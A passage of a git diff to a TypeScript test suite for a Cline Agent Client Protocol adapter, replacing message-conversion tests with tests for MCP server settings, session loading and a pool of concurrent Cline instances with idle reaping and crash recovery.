-      expect(clinePrompt.images).toBeUndefined();
+      const session = await agent.newSession({ cwd: "/test", mcpServers: [] });
+
+      expect(session.models?.currentModelId).toBe("cline:strong/executor");
+      expect(session.modes?.currentModeId).toBe("act");
     });
+  });
 
-    it("should handle mixed content types", () => {
-      const clinePrompt = acpPromptToCline({
-        sessionId: "test",
-        prompt: [
-          { type: "text", text: "Hello" },
-          { type: "resource_link", uri: "file:///test.ts", name: "test.ts" },
-        ],
-      });
+  describe("MCP servers", () => {
+    it("should advertise HTTP and SSE MCP support", async () => {
+      const response = await agent.initialize({ protocolVersion: 1, clientCapabilities: {} });
 
-      expect(clinePrompt.text).toBe("Hello");
-      expect(clinePrompt.files).toEqual(["/test.ts"]);
+      expect(response.agentCapabilities?.mcpCapabilities).toEqual({ http: true, sse: true });
     });
 
-    it("should handle multiple file attachments", () => {
-      const clinePrompt = acpPromptToCline({
-        sessionId: "test",
-        prompt: [
-          { type: "text", text: "Check these files:" },
-          { type: "resource_link", uri: "file:///path/to/file1.ts", name: "file1.ts" },
-          { type: "resource_link", uri: "file:///path/to/file2.ts", name: "file2.ts" },
-          { type: "resource_link", uri: "file:///path/to/file3.json", name: "file3.json" },
+    it("should add the client's MCP servers to Cline's MCP settings under session names", async () => {
+      const settingsPath = path.join(
+        fs.mkdtempSync(path.join(os.tmpdir(), "cline-acp-mcp-")),
+        "cline_mcp_settings.json",
+      );
+      fs.writeFileSync(
+        settingsPath,
+        JSON.stringify({
+          mcpServers: {
+            github: { type: "stdio", command: "my-github", autoApprove: ["list_issues"] },
+          },
+        }),
+      );
+      const mcpAgent = new ClineAcpAgent({
+        clineClient: mockClineClient,
+        mcpSettingsPath: settingsPath,
+      });
+      mcpAgent.setClient(mockConnection);
+
+      const { sessionId } = await mcpAgent.newSession({
+        cwd: "/test/path",
+        mcpServers: [
+          {
+            name: "github",
+            command: "github-mcp",
+            args: ["stdio"],
+            env: [{ name: "TOKEN", value: "secret" }],
+          },
         ],
       });
 
-      expect(clinePrompt.text).toBe("Check these files:");
-      expect(clinePrompt.files).toHaveLength(3);
-      expect(clinePrompt.files).toEqual([
-        "/path/to/file1.ts",
-        "/path/to/file2.ts",
-        "/path/to/file3.json",
-      ]);
+      expect(new ClineMcpSettingsFile(settingsPath).list()).toEqual({
+        github: { type: "stdio", command: "my-github", autoApprove: ["list_issues"] },
+        [`github-${sessionId}`]: {
+          type: "stdio",
+          command: "github-mcp",
+          args: ["stdio"],
+          env: { TOKEN: "secret" },
+        },
+      });
     });
 
-    it("should URL-decode file paths with special characters", () => {
-      const clinePrompt = acpPromptToCline({
-        sessionId: "test",
-        prompt: [
-          { type: "resource_link", uri: "file:///path/with%20spaces/file%2B1.ts", name: "file.ts" },
-        ],
+    it("should remove the servers it added on shutdown", async () => {
+      const settingsPath = path.join(
+        fs.mkdtempSync(path.join(os.tmpdir(), "cline-acp-mcp-")),
+        "cline_mcp_settings.json",
+      );
+      const mine = { type: "stdio", command: "my-server" };
+      fs.writeFileSync(settingsPath, JSON.stringify({ mcpServers: { mine } }));
+      const mcpAgent = new ClineAcpAgent({
+        clineClient: mockClineClient,
+        mcpSettingsPath: settingsPath,
       });
+      mcpAgent.setClient(mockConnection);
 
-      expect(clinePrompt.files).toEqual(["/path/with spaces/file+1.ts"]);
+      for (let i = 0; i < 2; i++) {
+        await mcpAgent.newSession({
+          cwd: "/test/path",
+          mcpServers: [{ name: "fs", command: "fs-mcp", args: [], env: [] }],
+        });
+      }
+      expect(Object.keys(new ClineMcpSettingsFile(settingsPath).list())).toHaveLength(3);
+
+      await mcpAgent.shutdown();
+
+      expect(new ClineMcpSettingsFile(settingsPath).list()).toEqual({ mine });
     });
 
-    it("should ignore non-file:// URIs in resource_link", () => {
-      const clinePrompt = acpPromptToCline({
-        sessionId: "test",
-        prompt: [
-          { type: "text", text: "Check this:" },
-          { type: "resource_link", uri: "https://example.com/file.ts", name: "file.ts" },
-        ],
+    it("should remove servers left by an agent that didn't shut down", async () => {
+      const dir = fs.mkdtempSync(path.join(os.tmpdir(), "cline-acp-mcp-"));
+      const settingsPath = path.join(dir, "cline_mcp_settings.json");
+      const dataDir = path.join(dir, "data");
+      const mine = { type: "stdio", command: "my-server" };
+      const leftover = { type: "stdio", command: "fs-mcp" };
+      const deadPid = spawnSync(process.execPath, ["-e", ""]).pid;
+      const stale = sessionMcpServerName("fs", "0192f3a4-5b6c-7d8e-9f00-112233445566");
+      const running = sessionMcpServerName("fs", "0192f3a4-5b6c-7d8e-9f00-665544332211");
+      fs.writeFileSync(
+        settingsPath,
+        JSON.stringify({ mcpServers: { mine, [stale]: leftover, [running]: leftover } }),
+      );
+      fs.mkdirSync(dataDir);
+      fs.writeFileSync(
+        path.join(dataDir, "mcp-servers.json"),
+        JSON.stringify({ [stale]: deadPid, [running]: process.ppid }),
+      );
+      const mcpAgent = new ClineAcpAgent({
+        clineClient: mockClineClient,
+        mcpSettingsPath: settingsPath,
+        dataDir,
       });
+      mcpAgent.setClient(mockConnection);
 
-      expect(clinePrompt.text).toBe("Check this:");
-      expect(clinePrompt.files).toBeUndefined();
-    });
+      await mcpAgent.initialize({ protocolVersion: 1, clientCapabilities: {} });
 
-    it("should handle combined images and file attachments", () => {
-      const pngData = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8DwHwAFBQIAX8jx0gAAAABJRU5ErkJggg==";
+      // Servers of an agent that is still running are left alone
+      expect(new ClineMcpSettingsFile(settingsPath, dataDir).list()).toEqual({
+        mine,
+        [running]: leftover,
+      });
+    });
 
-      const clinePrompt = acpPromptToCline({
-        sessionId: "test",
-        prompt: [
-          { type: "text", text: "Check this image and file:" },
-          { type: "image", data: pngData, mimeType: "image/png" },
-          { type: "resource_link", uri: "file:///path/to/code.ts", name: "code.ts" },
-        ],
+    it("should show MCP tool calls under the client's server name", () => {
+      const toolInfo = parseToolInfo({
+        ts: 1,
+        type: ClineMessageType.ASK,
+        ask: ClineAsk.USE_MCP_SERVER,
+        text: JSON.stringify({
+          type: "use_mcp_tool",
+          serverName: sessionMcpServerName("github", "0192f3a4-5b6c-7d8e-9f00-112233445566"),
+          toolName: "list_issues",
+        }),
       });
 
-      expect(clinePrompt.text).toBe("Check this image and file:");
-      expect(clinePrompt.images).toHaveLength(1);
-      expect(clinePrompt.images![0]).toMatch(/^data:image\/png;base64,/);
-      expect(clinePrompt.files).toEqual(["/path/to/code.ts"]);
+      expect(toolInfo.title).toBe("github: list_issues");
     });
-  });
-});
 
-describe("Cline to ACP conversion", () => {
-  describe("clineMessageToAcpNotification()", () => {
-    it("should convert SAY text to agent_message_chunk", () => {
-      // Pass messageIndex=1 because index 0 is skipped (user's echoed input)
-      const notification = clineMessageToAcpNotification(
-        {
-          ts: Date.now(),
-          type: ClineMessageType.SAY,
-          say: ClineSay.TEXT,
-          text: "Hello from Cline",
-        },
-        "session-123",
-        1, // Not the first message
+    it("should leave servers it didn't add alone", () => {
+      const settingsPath = path.join(
+        fs.mkdtempSync(path.join(os.tmpdir(), "cline-acp-mcp-")),
+        "cline_mcp_settings.json",
       );
+      const mine = { type: "stdio" as const, command: "my-server" };
+      fs.writeFileSync(settingsPath, JSON.stringify({ mcpServers: { fs: mine } }));
+      const settings = new ClineMcpSettingsFile(settingsPath);
 
-      expect(notification).not.toBeNull();
-      expect(notification?.update.sessionUpdate).toBe("agent_message_chunk");
-      expect((notification?.update as any).content.text).toBe("Hello from Cline");
+      expect(settings.upsert({ fs: { type: "stdio", command: "fs-mcp" } })).toEqual([]);
+      expect(settings.remove(["fs"])).toEqual([]);
+      expect(settings.list()).toEqual({ fs: mine });
     });
 
-    it("should skip first say:text message (user's echoed input)", () => {
-      // Index 0 say:text is always the user's echoed input - should be skipped
-      const notification = clineMessageToAcpNotification(
-        {
-          ts: Date.now(),
-          type: ClineMessageType.SAY,
-          say: ClineSay.TEXT,
-          text: "User's message that gets echoed",
-        },
-        "session-123",
-        0, // First message
+    it("should not rewrite the settings file when the servers are unchanged", () => {
+      const settingsPath = path.join(
+        fs.mkdtempSync(path.join(os.tmpdir(), "cline-acp-mcp-")),
+        "cline_mcp_settings.json",
       );
+      const settings = new ClineMcpSettingsFile(settingsPath);
+      const servers = acpMcpServersToCline([{ name: "fs", command: "fs-mcp", args: [], env: [] }]);
 
-      expect(notification).toBeNull();
+      expect(settings.upsert(servers)).toEqual(["fs"]);
+      expect(settings.upsert(servers)).toEqual([]);
     });
+  });
 
-    it("should convert SAY reasoning to agent_thought_chunk", () => {
-      const notification = clineMessageToAcpNotification(
+  describe("loadSession()", () => {
+    const historyState = {
+      mode: "act",
+      workspaceRoots: [{ path: "/workspace" }],
+      clineMessages: [
+        { ts: 1000, type: "say", say: "text", text: "Add a README" },
+        { ts: 1001, type: "say", say: "text", text: "Sure, writing it now." },
         {
-          ts: Date.now(),
-          type: ClineMessageType.SAY,
-          say: ClineSay.REASONING,
-          text: "Thinking about the problem...",
+          ts: 1002,
+          type: "ask",
+          ask: "tool",
+          text: JSON.stringify({ tool: "write_to_file", path: "README.md", content: "# Hi" }),
         },
-        "session-123",
-      );
+        { ts: 1003, type: "say", say: "user_feedback", text: "Thanks!" },
+        { ts: 1004, type: "ask", ask: "resume_task" },
+      ],
+    };
 
-      expect(notification).not.toBeNull();
-      expect(notification?.update.sessionUpdate).toBe("agent_thought_chunk");
+    it("should advertise loadSession capability", async () => {
+      const response = await agent.initialize({ protocolVersion: 1, clientCapabilities: {} });
+
+      expect(response.agentCapabilities?.loadSession).toBe(true);
     });
 
-    it("should convert ASK followup to agent_message_chunk", () => {
-      const notification = clineMessageToAcpNotification(
-        {
-          ts: Date.now(),
-          type: ClineMessageType.ASK,
-          ask: ClineAsk.FOLLOWUP,
-          text: "Could you clarify?",
-        },
-        "session-123",
-      );
+    it("should resume the Cline task mapped to the session", async () => {
+      await agent.initialize({ protocolVersion: 1, clientCapabilities: {} });
 
-      expect(notification).not.toBeNull();
-      expect(notification?.update.sessionUpdate).toBe("agent_message_chunk");
-    });
+      const session = await agent.newSession({ cwd: "/test/path", mcpServers: [] });
+      await agent.prompt({
+        sessionId: session.sessionId,
+        prompt: [{ type: "text", text: "Hello" }],
+      });
 
-    it("should return null for API request messages", () => {
-      const notification = clineMessageToAcpNotification(
-        {
-          ts: Date.now(),
-          type: ClineMessageType.SAY,
-          say: ClineSay.API_REQ_STARTED,
-        },
-        "session-123",
-      );
+      // A fresh agent (e.g. after an editor restart) should find the stored mapping
+      const restarted = new ClineAcpAgent({ clineClient: mockClineClient });
+      restarted.setClient(mockConnection);
+      await restarted.initialize({ protocolVersion: 1, clientCapabilities: {} });
+      await restarted.loadSession({
+        sessionId: session.sessionId,
+        cwd: "/test/path",
+        mcpServers: [],
+      });
 
-      expect(notification).toBeNull();
+      expect(mockClineClient.Task.showTaskWithId).toHaveBeenCalledWith({ value: "task-123" });
+      const loaded = restarted.getSession(session.sessionId);
+      expect(loaded?.taskId).toBe("task-123");
+      expect(loaded?.isTaskCreated).toBe(true);
     });
 
-    it("should filter out retry JSON messages", () => {
-      // These are internal Cline retry mechanism messages that shouldn't be shown to users
-      const retryJson = JSON.stringify({
-        attempt: 1,
-        maxAttempts: 3,
-        delaySeconds: 0,
-      });
+    it("should fall back to using the session ID as the task ID", async () => {
+      await agent.initialize({ protocolVersion: 1, clientCapabilities: {} });
 
-      const notification = clineMessageToAcpNotification(
-        {
-          ts: Date.now(),
-          type: ClineMessageType.SAY,
-          say: ClineSay.TEXT,
-          text: retryJson,
-        },
-        "session-123",
-        1, // Not first message
-      );
+      await agent.loadSession({ sessionId: "1700000000000", cwd: "/test/path", mcpServers: [] });
 
-      expect(notification).toBeNull();
+      expect(mockClineClient.Task.showTaskWithId).toHaveBeenCalledWith({
+        value: "1700000000000",
+      });
     });
 
-    it("should filter out failed retry JSON messages", () => {
-      const failedRetryJson = JSON.stringify({
-        attempt: 3,
-        maxAttempts: 3,
-        delaySeconds: 0,
-        failed: true,
+    it("should replay the stored conversation to the client", async () => {
+      vi.mocked(mockClineClient.State.getLatestState).mockResolvedValue({
+        stateJson: JSON.stringify(historyState),
       });
+      await agent.initialize({ protocolVersion: 1, clientCapabilities: {} });
 
-      const notification = clineMessageToAcpNotification(
-        {
-          ts: Date.now(),
-          type: ClineMessageType.SAY,
-          say: ClineSay.TEXT,
-          text: failedRetryJson,
-        },
-        "session-123",
-        1,
-      );
+      const response = await agent.loadSession({
+        sessionId: "task-abc",
+        cwd: "/workspace",
+        mcpServers: [],
+      });
 
-      expect(notification).toBeNull();
+      const updates = vi
+        .mocked(mockConnection.sessionUpdate)
+        .mock.calls.map((call) => call[0].update);
+      expect(updates.map((u) => u.sessionUpdate)).toEqual([
+        "user_message_chunk",
+        "agent_message_chunk",
+        "tool_call",
+        "user_message_chunk",
+        "available_commands_update",
+      ]);
+      expect(response.modes?.currentModeId).toBe("act");
+      expect(agent.getSession("task-abc")?.mode).toBe("act");
     });
 
-    it("should not filter legitimate JSON responses", () => {
-      // A legitimate response that happens to be JSON
-      const notification = clineMessageToAcpNotification(
-        {
-          ts: Date.now(),
-          type: ClineMessageType.SAY,
-          say: ClineSay.TEXT,
-          text: JSON.stringify({ message: "Here is your data", data: [1, 2, 3] }),
-        },
-        "session-123",
-        1,
-      );
+    it("should throw when the task cannot be found", async () => {
+      vi.mocked(mockClineClient.Task.showTaskWithId).mockRejectedValue(new Error("not found"));
+      await agent.initialize({ protocolVersion: 1, clientCapabilities: {} });
 
-      expect(notification).not.toBeNull();
+      await expect(
+        agent.loadSession({ sessionId: "missing", cwd: "/test/path", mcpServers: [] }),
+      ).rejects.toThrow("Session not found: missing");
+      expect(agent.getSession("missing")).toBeUndefined();
     });
+  });
+});
 
-    it("should filter out tool JSON in SAY TEXT messages", () => {
-      // Regression test - this exact JSON format was being displayed to users
-      const toolJson = JSON.stringify({
-        tool: "readFile",
-        path: "README.md",
-        content: "/Users/jasonconigliari/Projects/LLM/claude-code-acp/README.md",
-        operationIsLocatedInWorkspace: true,
-      });
+describe("Concurrent sessions", () => {
+  // Process manager stand-in that hands out a new address per instance
+  function createMockProcessManager() {
+    let port = 50000;
+    return {
+      startInstance: vi.fn(async () => {
+        port++;
+        return {
+          pid: port,
+          address: `127.0.0.1:${port}`,
+          clineCorePid: port,
+          clineHostPid: port,
+        };
+      }),
+      stopInstance: vi.fn().mockResolvedValue(undefined),
+    } as unknown as ClineProcessManager;
+  }
+
+  function createPool(idleTimeoutMs = 1000) {
+    const manager = createMockProcessManager();
+    const clients = new Map<string, ClineClient>();
+    const pool = new ClineInstancePool(manager, {
+      idleTimeoutMs,
+      createClient: async (address) => {
+        const client = createMockClineClient();
+        clients.set(address, client);
+        return client;
+      },
+    });
+    return { manager, pool, clients };
+  }
 
-      const notification = clineMessageToAcpNotification(
-        {
-          ts: Date.now(),
-          type: ClineMessageType.SAY,
-          say: ClineSay.TEXT,
-          text: toolJson,
-        },
-        "session-123",
-        1, // Not the first message
-      );
+  it("should give each session its own instance", async () => {
+    const { manager, pool } = createPool();
 
-      expect(notification).toBeNull();
-    });
+    const first = await pool.acquire("session-1", "/project-a");
+    const second = await pool.acquire("session-2", "/project-b");
 
-    it("should filter out tool JSON with only operationIsLocatedInWorkspace", () => {
-      // Another format that should be filtered
-      const toolJson = JSON.stringify({
-        operationIsLocatedInWorkspace: true,
-        someOtherField: "value",
-      });
+    expect(first).not.toBe(second);
+    expect(await pool.acquire("session-1", "/project-a")).toBe(first);
+    expect(manager.startInstance).toHaveBeenCalledWith("/project-a", undefined);
+    expect(manager.startInstance).toHaveBeenCalledWith("/project-b", undefined);
+    await pool.releaseAll();
+  });
 
-      const notification = clineMessageToAcpNotification(
-        {
-          ts: Date.now(),
-          type: ClineMessageType.SAY,
-          say: ClineSay.TEXT,
-          text: toolJson,
-        },
-        "session-123",
-        1,
-      );
+  it("should reap idle instances but not busy ones", async () => {
+    const { manager, pool } = createPool(1000);
+    await pool.acquire("idle", "/project");
+    await pool.acquire("busy", "/project");
+    pool.setBusy("busy", true);
 
-      expect(notification).toBeNull();
-    });
+    const reaped = await pool.reapIdle(Date.now() + 5000);
 
-    it("should surface api_req_failed errors to the user", () => {
-      const notification = clineMessageToAcpNotification(
-        {
-          ts: Date.now(),
-          type: ClineMessageType.ASK,
-          ask: ClineAsk.API_REQ_FAILED,
-          text: JSON.stringify({
-            message: "Unauthorized: Please sign in to Cline before trying again.",
-            modelId: "anthropic/claude-sonnet-4.5",
-            providerId: "cline",
-          }),
-        },
-        "session-123",
-      );
+    expect(reaped).toEqual(["idle"]);
+    expect(pool.get("idle")).toBeUndefined();
+    expect(pool.get("busy")).toBeDefined();
+    expect(manager.stopInstance).toHaveBeenCalledTimes(1);
+    await pool.releaseAll();
+  });
 
-      expect(notification).not.toBeNull();
-      expect(notification?.update.sessionUpdate).toBe("agent_message_chunk");
-      expect((notification?.update as any).content.text).toContain(
-        "Unauthorized: Please sign in to Cline before trying again.",
-      );
-    });
+  it("should not reap when the idle timeout is disabled", async () => {
+    const { pool } = createPool(0);
+    await pool.acquire("session-1", "/project");
 
-    it("should return null for ASK resume_task messages", () => {
-      const notification = clineMessageToAcpNotification(
-        {
-          ts: Date.now(),
-          type: ClineMessageType.ASK,
-          ask: ClineAsk.RESUME_TASK,
-          text: "Resume previous task?",
-        },
-        "session-123",
-      );
+    expect(await pool.reapIdle(Date.now() + 60 * 60 * 1000)).toEqual([]);
+    await pool.releaseAll();
+  });
 
-      expect(notification).toBeNull();
-    });
+  it("should route each session's calls to its own instance", async () => {
+    const { pool } = createPool();
+    const agent = new ClineAcpAgent();
+    agent.setClient(createMockConnection());
+    agent.setInstancePool(pool);
+
+    const first = await agent.newSession({ cwd: "/project-a", mcpServers: [] });
+    const second = await agent.newSession({ cwd: "/project-b", mcpServers: [] });
+    const firstClient = pool.get(first.sessionId)!;
+    const secondClient = pool.get(second.sessionId)!;
+
+    await agent.prompt({ sessionId: second.sessionId, prompt: [{ type: "text", text: "Hi" }] });
+    await agent.cancel({ sessionId: second.sessionId });
+
+    expect(secondClient.Task.newTask).toHaveBeenCalled();
+    expect(firstClient.Task.newTask).not.toHaveBeenCalled();
+    // Only the cancelTask sent while setting up the first session's fresh instance
+    expect(firstClient.Task.cancelTask).toHaveBeenCalledTimes(1);
+    await pool.releaseAll();
+  });
 
-    it("should return null for ASK resume_completed_task messages", () => {
-      const notification = clineMessageToAcpNotification(
-        {
-          ts: Date.now(),
-          type: ClineMessageType.ASK,
-          ask: ClineAsk.RESUME_COMPLETED_TASK,
-          text: "Resume completed task?",
-        },
-        "session-123",
-      );
+  it("should restart a reaped session's instance and reopen its task", async () => {
+    const { pool } = createPool();
+    const agent = new ClineAcpAgent();
+    agent.setClient(createMockConnection());
+    agent.setInstancePool(pool);
 
-      expect(notification).toBeNull();
-    });
+    const { sessionId } = await agent.newSession({ cwd: "/project", mcpServers: [] });
+    await agent.prompt({ sessionId, prompt: [{ type: "text", text: "Hi" }] });
+    await pool.reapIdle(Date.now() + 5000);
+
+    await agent.prompt({ sessionId, prompt: [{ type: "text", text: "Again" }] });
+
+    const resumedClient = pool.get(sessionId)!;
+    expect(resumedClient.Task.showTaskWithId).toHaveBeenCalledWith({ value: "task-123" });
+    expect(resumedClient.Task.askResponse).toHaveBeenCalledWith(
+      expect.objectContaining({ text: "Again" }),
+    );
+    await pool.releaseAll();
   });
 
-  describe("clineToolAskToAcpToolCall()", () => {
-    it("should convert read_file tool to read kind", () => {
-      const notification = clineToolAskToAcpToolCall(
-        {
-          ts: Date.now(),
-          type: ClineMessageType.ASK,
-          ask: ClineAsk.TOOL,
-          text: JSON.stringify({
-            tool: "read_file",
-            path: "/path/to/file.ts",
-          }),
-        },
-        "session-123",
-      );
+  it("should restart a reaped session's instance to change its model", async () => {
+    const { pool } = createPool();
+    const agent = new ClineAcpAgent();
+    agent.setClient(createMockConnection());
+    agent.setInstancePool(pool);
 
-      expect(notification.update.sessionUpdate).toBe("tool_call");
-      expect((notification.update as any).kind).toBe("read");
-      expect((notification.update as any).locations).toContainEqual({ path: "/path/to/file.ts" });
-    });
+    const { sessionId } = await agent.newSession({ cwd: "/project", mcpServers: [] });
+    await pool.reapIdle(Date.now() + 5000);
+    expect(pool.get(sessionId)).toBeUndefined();
 
-    it("should convert write_to_file tool to edit kind", () => {
-      const notification = clineToolAskToAcpToolCall(
-        {
-          ts: Date.now(),
-          type: ClineMessageType.ASK,
-          ask: ClineAsk.TOOL,
-          text: JSON.stringify({
-            tool: "write_to_file",
-            path: "/path/to/new.ts",
-            content: "const x = 1;",
-          }),
-        },
-        "session-123",
-      );
+    await agent.setSessionModel({ sessionId, modelId: "anthropic:claude-sonnet-4" });
 
-      expect(notification.update.sessionUpdate).toBe("tool_call");
-      expect((notification.update as any).kind).toBe("edit");
+    const resumedClient = pool.get(sessionId)!;
+    expect(resumedClient.State.updateSettings).toHaveBeenCalledWith({
+      apiConfiguration: expect.objectContaining({
+        planModeApiProvider: "ANTHROPIC",
+        planModeApiModelId: "claude-sonnet-4",
+      }),
     });
+    await pool.releaseAll();
+  });
 
-    it("should convert execute_command tool to execute kind", () => {
-      const notification = clineToolAskToAcpToolCall(
-        {
-          ts: Date.now(),
-          type: ClineMessageType.ASK,
-          ask: ClineAsk.COMMAND,
-          text: JSON.stringify({
-            tool: "execute_command",
-            command: "npm run build",
-          }),
-        },
-        "session-123",
-      );
+  it("should restart a session's instance in the same directory", async () => {
+    const { manager, pool } = createPool();
+    const original = await pool.acquire("session-1", "/project");
 
-      expect(notification.update.sessionUpdate).toBe("tool_call");
-      expect((notification.update as any).kind).toBe("execute");
-    });
+    const restarted = await pool.restart("session-1");
 
-    it("should convert search_files tool to search kind", () => {
-      const notification = clineToolAskToAcpToolCall(
-        {
-          ts: Date.now(),
-          type: ClineMessageType.ASK,
-          ask: ClineAsk.TOOL,
-          text: JSON.stringify({
-            tool: "search_files",
-            path: "/path",
-            regex: "TODO",
-          }),
-        },
-        "session-123",
-      );
+    expect(restarted).not.toBe(original);
+    expect(pool.get("session-1")).toBe(restarted);
+    expect(manager.startInstance).toHaveBeenLastCalledWith("/project", undefined);
+    expect(manager.stopInstance).toHaveBeenCalledWith("127.0.0.1:50001");
+    await pool.releaseAll();
+  });
 
-      expect(notification.update.sessionUpdate).toBe("tool_call");
-      expect((notification.update as any).kind).toBe("search");
-    });
+  it("should report instances that stop answering", async () => {
+    const { pool } = createPool();
+    const healthy = await pool.acquire("healthy", "/project");
+    const crashed = await pool.acquire("crashed", "/project");
+    vi.mocked(crashed.State.getProcessInfo).mockRejectedValue(new Error("UNAVAILABLE"));
+    const onDead = vi.fn().mockResolvedValue(undefined);
 
-    it("should use message timestamp as toolCallId", () => {
-      const ts = Date.now();
-      const notification = clineToolAskToAcpToolCall(
-        {
-          ts,
-          type: ClineMessageType.ASK,
-          ask: ClineAsk.TOOL,
-          text: JSON.stringify({ tool: "read_file", path: "/file.ts" }),
-        },
-        "session-123",
-      );
+    const dead = await new ClineHealthMonitor(pool, onDead).check();
 
-      expect((notification.update as any).toolCallId).toBe(String(ts));
-    });
+    expect(dead).toEqual(["crashed"]);
+    expect(onDead).toHaveBeenCalledWith("crashed");
+    expect(await isInstanceAlive(healthy)).toBe(true);
+    await pool.releaseAll();
   });
 
-  describe("isTaskComplete()", () => {
-    it("should return true for completion_result ask", () => {
-      const messages: ClineMessage[] = [
-        {
-          ts: Date.now(),
-          type: ClineMessageType.SAY,
-          say: ClineSay.TEXT,
-          text: "Done!",
-        },
-        {
-          ts: Date.now(),
-          type: ClineMessageType.ASK,
-          ask: ClineAsk.COMPLETION_RESULT,
-        },
-      ];
+  it("should restart a crashed instance and reopen the session's task", async () => {
+    const { pool } = createPool();
+    const agent = new ClineAcpAgent();
+    const connection = createMockConnection();
+    agent.setClient(connection);
+    agent.setInstancePool(pool);
+
+    const { sessionId } = await agent.newSession({ cwd: "/project", mcpServers: [] });
+    await agent.prompt({ sessionId, prompt: [{ type: "text", text: "Hi" }] });
+    const crashed = pool.get(sessionId)!;
+    vi.mocked(crashed.State.getProcessInfo).mockRejectedValue(new Error("UNAVAILABLE"));
+
+    await agent.getHealthMonitor()!.check();
+
+    const restarted = pool.get(sessionId)!;
+    expect(restarted).not.toBe(crashed);
+    expect(restarted.Task.showTaskWithId).toHaveBeenCalledWith({ value: "task-123" });
+    const texts = vi
+      .mocked(connection.sessionUpdate)
+      .mock.calls.map((call) => getChunkText(call[0]));
+    expect(texts).toContain("\n\n⚠️ Cline stopped responding. Restarting it...\n\n");
+    expect(texts).toContain("Cline was restarted and the task reopened from its history.\n\n");
+    await pool.releaseAll();
+  });
 
-      expect(isTaskComplete(messages)).toBe(true);
+  it("should carry on with the turn when the instance dies mid-stream", async () => {
+    const manager = createMockProcessManager();
+    let started = 0;
+    const pool = new ClineInstancePool(manager, {
+      createClient: async () => {
+        const client = createMockClineClient();
+        started++;
+        if (started === 1) {
+          // The first instance dies while the turn is streaming
+          vi.mocked(client.State.subscribeToState).mockReturnValue({
+            async *[Symbol.asyncIterator]() {
+              yield {
+                stateJson: JSON.stringify({
+                  clineMessages: [
+                    { ts: 1, type: "say", say: "text", text: "Go" },
+                    { ts: 2, type: "say", say: "text", text: "Working on it" },
+                  ],
+                }),
+              };
+              vi.mocked(client.State.getProcessInfo).mockRejectedValue(new Error("UNAVAILABLE"));
+              throw new Error("14 UNAVAILABLE: Connection dropped");
+            },
+          });
+        } else {
+          // The restarted instance asks to resume the reopened task, then finishes it
+          vi.mocked(client.State.subscribeToState).mockReturnValue({
+            async *[Symbol.asyncIterator]() {
+              const resumed = [
+                { ts: 1, type: "say", say: "text", text: "Go" },
+                { ts: 2, type: "say", say: "text", text: "Working on it" },
+                { ts: 3, type: "ask", ask: "resume_task" },
+              ];
+              yield { stateJson: JSON.stringify({ clineMessages: resumed }) };
+              yield {
+                stateJson: JSON.stringify({
+                  clineMessages: [
+                    ...resumed,
+                    { ts: 4, type: "say", say: "text", text: "Done" },
+                    { ts: 5, type: "ask", ask: "completion_result" },
+                  ],
+                }),
+              };
+            },
+          });
+        }
+        return client;
+      },
+    });
+    const agent = new ClineAcpAgent();
+    const connection = createMockConnection();
+    agent.setClient(connection);
+    agent.setInstancePool(pool);
+
+    const { sessionId } = await agent.newSession({ cwd: "/project", mcpServers: [] });
+    const response = await agent.prompt({ sessionId, prompt: [{ type: "text", text: "Go" }] });
+
+    const restarted = pool.get(sessionId)!;
+    expect(started).toBe(2);
+    expect(response.stopReason).toBe("end_turn");
+    expect(restarted.Task.showTaskWithId).toHaveBeenCalledWith({ value: "task-123" });
+    expect(restarted.Task.askResponse).toHaveBeenCalledWith({
+      responseType: AskResponseType.YES_BUTTON_CLICKED,
     });
+    const texts = vi
+      .mocked(connection.sessionUpdate)
+      .mock.calls.map((call) => getChunkText(call[0]));
+    expect(texts.filter((text) => text === "Working on it")).toHaveLength(1);
+    expect(texts).toContain("Done");
+    await pool.releaseAll();
+  });
 
-    it("should return false for in-progress task", () => {
-      const messages: ClineMessage[] = [
-        {
-          ts: Date.now(),
-          type: ClineMessageType.SAY,
-          say: ClineSay.TEXT,
-          text: "Working on it...",
-        },
-      ];
+  it("should not cancel another session's task on a shared client", async () => {
+    const clineClient = createMockClineClient();
+    const agent = new ClineAcpAgent({ clineClient });
+    agent.setClient(createMockConnection());
 
-      expect(isTaskComplete(messages)).toBe(false);
-    });
+    await agent.newSession({ cwd: "/project", mcpServers: [] });
+    await agent.newSession({ cwd: "/project", mcpServers: [] });
+
+    expect(clineClient.Task.cancelTask).toHaveBeenCalledTimes(1);
   });
 
-  describe("isWaitingForUserInput()", () => {
-    it("should return true for plan_mode_respond ask", () => {
-      const messages: ClineMessage[] = [
-        {
-          ts: Date.now(),
-          type: ClineMessageType.ASK,
-          ask: ClineAsk.PLAN_MODE_RESPOND,
-          text: JSON.stringify({ response: "Hello!", options: [] }),
-        },
-      ];
+  it("should end the previous session when a new one starts on an --address instance", async () => {
+    const clineClient = createMockClineClient();
+    const agent = new ClineAcpAgent({ clineClient, address: "127.0.0.1:50051" });
+    agent.setClient(createMockConnection());
 
-      expect(isWaitingForUserInput(messages)).toBe(true);
-    });
+    const first = await agent.newSession({ cwd: "/project", mcpServers: [] });
+    const second = await agent.newSession({ cwd: "/project", mcpServers: [] });
 
-    it("should return true for followup ask", () => {
-      const messages: ClineMessage[] = [
-        {
-          ts: Date.now(),
-          type: ClineMessageType.ASK,
-          ask: ClineAsk.FOLLOWUP,
-          text: "What would you like me to do next?",
-        },
-      ];
+    expect(agent.getSession(first.sessionId)).toBeUndefined();
+    expect(agent.getSession(second.sessionId)).toBeDefined();
+    // The instance is no longer shared, so the new session starts from a clean task
+    expect(clineClient.Task.cancelTask).toHaveBeenCalledTimes(2);
+    await agent.shutdown();
+  });
 
-      expect(isWaitingForUserInput(messages)).toBe(true);
+  it("should refuse a second session while the first is working on an --address instance", async () => {
+    const clineClient = createMockClineClient();
+    let finishTurn: () => void = () => {};
+    const turnFinished = new Promise<void>((resolve) => (finishTurn = resolve));
+    vi.mocked(clineClient.State.subscribeToState).mockReturnValue({
+      async *[Symbol.asyncIterator]() {
+        await turnFinished;
+        yield {
+          stateJson: JSON.stringify({
+            clineMessages: [{ ts: 2000, type: "ask", ask: "completion_result", text: "" }],
+          }),
+        };
+      },
     });
+    const agent = new ClineAcpAgent({ clineClient, address: "127.0.0.1:50051" });
+    agent.setClient(createMockConnection());
 
-    it("should return true for completion_result ask", () => {
-      const messages: ClineMessage[] = [
-        {
-          ts: Date.now(),
-          type: ClineMessageType.ASK,
-          ask: ClineAsk.COMPLETION_RESULT,
-        },
-      ];
